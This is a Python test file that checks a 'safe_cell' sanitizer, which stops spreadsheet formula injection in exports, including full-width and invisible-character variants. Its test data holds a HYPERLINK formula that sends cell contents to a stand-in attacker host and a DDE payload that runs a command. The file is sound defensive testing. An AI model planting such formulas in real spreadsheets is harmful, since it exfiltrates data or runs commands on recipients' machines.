"""safe_cell: text a spreadsheet could run as a formula is stored as text, Unicode lookalikes too."""
from __future__ import annotations

import io
import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from westlake_feedback.exports_safety import is_risky, safe_cell

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",       # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1",          # behind a space
    "\u3000=1",     # behind an ideographic space
    "\u200b=1",     # behind a zero-width space
    "\ufeff@SUM(1)",
]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["正常的意见", "1+1", "a=b", "电话：0571-87971371", "", "'已有撇号", "100%"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [0, 12, 2.5, None, date(2023, 3, 15), True])
def test_other_values_pass_through(value):
    assert safe_cell(value) is value


def test_control_characters_that_xml_cannot_hold_are_removed():
    assert safe_cell("a\x00b\x08c\x1fd\te\nf") == "abcd\te\nf"
    assert safe_cell("\x01=1") == "'=1"


def test_written_cells_are_strings_not_formulas():
    wb = Workbook()
    ws = wb.active
    for text in RISKY:
        ws.append([safe_cell(text)])
    buffer = io.BytesIO()
    wb.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    for (cell,), text in zip(loaded.iter_rows(), RISKY):
        assert cell.data_type == "s"
        assert cell.value == "'" + text


ALPHABET = "=+-@\t\r\n＝＋－＠ \u00a0\u3000\u200b\ufeff\x00\x01\x0b\x1f\ufffeab1'中文"


@given(st.text(alphabet=ALPHABET, max_size=8) | st.text(max_size=8))
def test_the_fast_path_changes_nothing(text):
    """safe_cell skips ordinary text with one regex scan: same result as the full check."""
    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text)
    assert safe_cell(text) == ("'" + cleaned if is_risky(cleaned) else cleaned)
